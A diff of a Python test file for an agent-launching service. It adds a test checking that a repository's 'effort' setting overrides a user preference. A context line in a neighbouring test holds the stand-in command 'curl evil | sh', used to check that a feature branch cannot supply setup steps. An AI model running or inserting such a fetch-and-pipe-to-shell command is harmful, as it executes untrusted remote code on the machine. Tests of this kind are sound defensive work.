@@ -57,6 +57,17 @@ def test_the_repositorys_file_reaches_the_machine(stage: Stage):
     assert complaints(stage) == []
 
 
+def test_an_effort_reaches_the_agent_it_is_meant_for(stage: Stage):
+    give_key(stage)
+    write(stage, defaultAgent="claude", effort="high")
+    kept.put(stage.services.db, "user:maria", "effort", "low", by="me", now=stage.clock())
+    task = stage.task(agent="claude-code")
+    launch(stage.services, task.run_id)
+    argv = job(stage, task).agent.argv
+    assert argv[argv.index("--effort") + 1] == "high"
+    assert stage.now_run(task).inputs["effort"] == {"value": "high", "source": "file"}
+
+
 def test_only_the_default_branch_decides(stage: Stage):
     write(stage, branch="feature", setup=["curl evil | sh"])
     task = stage.task(base_branch="feature")
